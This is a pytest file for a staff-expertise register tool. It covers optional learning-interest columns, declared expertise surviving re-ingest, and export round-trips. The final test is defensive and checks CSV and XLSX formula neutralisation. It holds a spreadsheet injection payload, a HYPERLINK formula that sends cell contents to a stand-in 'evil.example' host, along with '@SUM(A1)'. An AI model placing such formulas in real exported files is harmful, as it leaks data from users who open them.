"""Profiles and the registers: the optional learning_interests column, declarations surviving re-ingest,
and `dtbot profiles export` writing a register that re-ingests to the same people and expertise."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import openpyxl
from sqlmodel import Session, select

from config.settings import Settings
from ingest.parsers.registers import parse_register
from ingest.pipeline import run_ingest
from profiles import service
from profiles.export import neutralise, write_register
from records import crud
from records.db import make_engine
from records.models import Person, PersonProject, Project
from tests.conftest import SAMPLE, make_settings, run_cli

HEADER = "name,email,title,unit,languages,expertise,bio,telegram,phone,projects"


def test_learning_interests_column_is_optional() -> None:
    """A register with a learning_interests column (any spelling) gives each person their list; a register
    without it still loads, with no interests; interests are not part of the searchable row text."""
    new = f"{HEADER},Learning Interests\nAida,aida@undp.org,Analyst,Data,English,GIS:basic,,,,,QGIS; large language models\n"
    doc = parse_register(Path("staff.csv"), new.encode())
    assert doc.people[0].learning_interests == ["QGIS", "large language models"]
    assert "large language models" not in doc.sections[0].text
    old = f"{HEADER}\nAida,aida@undp.org,Analyst,Data,English,GIS:basic,,,,\n"
    doc = parse_register(Path("staff.csv"), old.encode())
    assert doc.people[0].learning_interests == [] and doc.people[0].expertise == {"GIS": "basic"}


def test_declarations_survive_a_register_reingest(tmp_path: Path, embed_cache_path: Path) -> None:
    """Declare an area, a removal and a learning interest; re-ingest a changed register (new levels, new
    interests, a new column order): the declarations are still there and still win over the register."""
    folder = tmp_path / "src"
    folder.mkdir()
    register = folder / "staff.csv"
    register.write_text(
        f"{HEADER},learning_interests\n"
        "Aida Expert,aida@undp.org,Analyst,Data,English,GIS:basic; open data:expert,,@aida,,,QGIS\n",
        encoding="utf-8",
    )
    settings = make_settings(tmp_path / "home", embed_cache_path)
    assert run_ingest(settings, [folder]).ok
    engine = make_engine(settings.sql_url)
    with Session(engine) as s:
        service.add_expertise(s, person_key="aida@undp.org", area="flood mapping", level="advanced", by=1)
        service.remove_expertise(s, person_key="aida@undp.org", area="open data", by=1)
        service.add_learning(s, person_key="aida@undp.org", value="drones", by=1)
        s.commit()
    register.write_text(
        "email,name,expertise,learning_interests,unit\n"
        "aida@undp.org,Aida Expert,GIS:expert; open data:expert; flood mapping:basic,QGIS; Python,Climate\n",
        encoding="utf-8",
    )
    summary = run_ingest(settings, [folder])
    assert summary.ok and summary.count("update") == 1
    with Session(engine) as s:
        person = crud.get_person(session=s, key="aida@undp.org")
        assert (
            person is not None
            and person.unit == "Climate"
            and person.learning_interests == ["QGIS", "Python"]
        )
        merged = service.merged_expertise(s, person_key="aida@undp.org")
        assert {tag: (lvl, src) for tag, (lvl, src, _) in merged.items()} == {
            "GIS": ("expert", "register"),
            "flood mapping": ("advanced", "declared"),
        }
        profile = service.get_profile(s, person_key="aida@undp.org")
        assert profile is not None
        assert [i.value for i in profile.learning] == ["QGIS", "Python", "drones"]
    engine.dispose()


def _read_csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def test_export_then_reingest_gives_the_same_people_and_expertise(
    sample_copy: Settings, tmp_path: Path, embed_cache_path: Path
) -> None:
    """`dtbot profiles export` of the sample (with declarations merged in) writes the register's header plus
    learning_interests; ingesting the exported CSV as the staff register (with the portfolio) yields the
    same active people, the same merged expertise, languages, interests and project roles."""
    engine = make_engine(sample_copy.sql_url)
    with Session(engine) as s:
        service.add_expertise(
            s, person_key="olga.kim@undp.org", area="GIS / remote sensing", level="expert", by=1
        )
        service.remove_expertise(s, person_key="bakyt.osmonov@undp.org", area="early warning systems", by=1)
        service.add_learning(s, person_key="bakyt.osmonov@undp.org", value="drone mapping", by=1)
        service.set_languages(
            s, person_key="olga.kim@undp.org", languages=["Russian", "English", "Korean"], by=1
        )
        s.commit()
        before = {
            p.key: (
                p.name,
                {t: lvl for t, (lvl, _, _) in service.merged_expertise(s, person_key=p.key).items()},
                service.get_profile(s, person_key=p.key),
                set(service.roles_of(s, person_id=p.id)),  # type: ignore[arg-type]
            )
            for p in crud.list_people(session=s)
            if p.email
        }
    engine.dispose()

    out = tmp_path / "export" / "register.csv"
    result = run_cli("profiles", "export", str(out), env={"DTBOT_HOME": str(sample_copy.home)})
    assert result.returncode == 0, result.stdout + result.stderr
    assert f"{len(before)} people written" in result.stdout
    sample_header = (SAMPLE / "registers" / "staff_expertise.csv").read_text(encoding="utf-8").splitlines()[0]
    exported_header = out.read_text(encoding="utf-8-sig").splitlines()[0]
    assert exported_header.split(",")[:10] == sample_header.split(",")[:10]
    assert exported_header.endswith(",learning_interests")
    rows = {r["email"]: r for r in _read_csv(out)}
    assert rows["elena.petrova@undp.org"]["telegram"] == "'@elena_proc"  # neutralised, read back without '
    assert rows["elena.petrova@undp.org"]["phone"].startswith("'+996")

    folder = tmp_path / "reingest"
    folder.mkdir()
    shutil.copy(out, folder / "staff_expertise.csv")
    shutil.copy(SAMPLE / "registers" / "project_portfolio.csv", folder / "project_portfolio.csv")
    fresh = make_settings(tmp_path / "fresh", embed_cache_path)
    assert run_ingest(fresh, [folder]).ok
    engine = make_engine(fresh.sql_url)
    with Session(engine) as s:
        after = {p.key: p for p in crud.list_people(session=s)}
        assert set(after) == set(before)
        for key, (name, expertise, profile, roles) in before.items():
            p = after[key]
            assert (p.name, p.expertise) == (name, expertise), key
            assert p.languages == profile.languages, key
            assert p.learning_interests == [i.value for i in profile.learning], key
            assert set(service.roles_of(s, person_id=p.id)) == roles, key  # type: ignore[arg-type]
        assert after["elena.petrova@undp.org"].telegram == "@elena_proc"
        assert after["olga.kim@undp.org"].expertise["GIS / remote sensing"] == "expert"
        assert "early warning systems" not in after["bakyt.osmonov@undp.org"].expertise
        assert len(s.exec(select(Project)).all()) > 0 and len(s.exec(select(PersonProject)).all()) > 0
    engine.dispose()


def test_export_neutralises_formulas_in_csv_and_xlsx(tmp_path: Path) -> None:
    """Typed text that a spreadsheet would run (=, +, -, @ at the start of a cell) is exported with a
    leading ' in both formats (XLSX cells typed as text), and the register parser reads the value back."""
    assert [neutralise(v) for v in ("=1+1", "+996", "-2", "@x", "\t=1", "plain", "a=b")] == [
        "'=1+1", "'+996", "'-2", "'@x", "'\t=1", "plain", "a=b",
    ]  # fmt: skip
    engine = make_engine(f"sqlite:///{tmp_path / 'r.sqlite'}")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with Session(engine) as s:
        s.add(Person(key="aida@undp.org", name="Aida Expert", email="aida@undp.org", phone="+996 555 000"))
        s.commit()
        stored = service.add_expertise(s, person_key="aida@undp.org", area=evil, level="expert", by=1).value
        service.add_learning(s, person_key="aida@undp.org", value="@SUM(A1)", by=1)
        s.commit()
        assert write_register(s, tmp_path / "out.csv") == 1
        write_register(s, tmp_path / "out.xlsx")
    engine.dispose()
    row = _read_csv(tmp_path / "out.csv")[0]
    assert row["expertise"] == f"'{stored}:expert" and row["learning_interests"] == "'@SUM(A1)"
    assert row["phone"] == "'+996 555 000"
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    sheet = book.active
    assert sheet is not None
    cells = {sheet.cell(1, c).value: sheet.cell(2, c) for c in range(1, sheet.max_column + 1)}
    assert cells["expertise"].value == f"'{stored}:expert" and cells["expertise"].data_type == "s"
    assert cells["learning_interests"].value == "'@SUM(A1)"
    assert not any(str(c.value or "").startswith(("=", "+", "-", "@")) for c in cells.values())
    for name in ("out.csv", "out.xlsx"):
        (person,) = parse_register(tmp_path / name, (tmp_path / name).read_bytes()).people
        assert person.expertise == {stored: "expert"} and person.learning_interests == ["@SUM(A1)"], name
        assert person.phone == "+996 555 000", name
